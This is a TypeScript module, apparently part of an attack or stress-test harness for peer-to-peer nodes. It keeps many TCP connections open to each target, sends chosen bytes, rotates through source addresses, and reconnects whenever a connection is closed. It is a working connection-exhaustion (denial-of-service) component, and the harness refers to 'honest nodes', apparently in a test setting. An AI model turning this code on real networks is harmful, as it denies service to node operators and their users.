/** Many TCP connections that send some bytes, stay, and come back when they are closed. */
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { sentByAll, type Target } from './attack.ts';

/** The pause before a connection that was closed comes back, milliseconds. */
const PAUSE_MS = 50;

const keepOne = async (
  { p2p: { host, port } }: Target,
  signal: AbortSignal,
  use: (socket: Socket) => void,
  localAddress: string | undefined,
): Promise<number> => {
  let sent = 0;
  while (!signal.aborted) {
    const socket = connect({ host, port, localAddress });
    const end = (): void => {
      socket.destroy();
    };
    signal.addEventListener('abort', end);
    // A refusal is what the attack is after.
    socket.on('error', () => undefined);
    socket.resume();
    socket.once('connect', () => use(socket));
    await new Promise((resolve) => socket.once('close', resolve));
    signal.removeEventListener('abort', end);
    sent += socket.bytesWritten;
    await sleep(PAUSE_MS);
  }
  return sent;
};

/**
 * Keeps `count` connections to each target until `signal` aborts, each used as `use` says. Returns the bytes sent.
 *
 * @param from - the addresses that they come from, in turn; that of the honest nodes unless given
 */
export const keepUsing = async (
  targets: readonly Target[],
  count: number,
  signal: AbortSignal,
  use: (socket: Socket, i: number) => void,
  from: readonly string[] = [],
): Promise<number> => {
  const kept = targets.flatMap((target) =>
    Array.from({ length: count }, (_, i) =>
      keepOne(target, signal, (socket) => use(socket, i), from[i % from.length]),
    ),
  );
  return sentByAll(kept);
};

/** As {@link keepUsing}, for connections that send some bytes and stay. */
export const keepOpen = (
  targets: readonly Target[],
  count: number,
  signal: AbortSignal,
  bytes: (i: number) => readonly Uint8Array[],
  from: readonly string[] = [],
): Promise<number> =>
  keepUsing(
    targets,
    count,
    signal,
    (socket, i) => {
      for (const chunk of bytes(i)) socket.write(chunk);
    },
    from,
  );
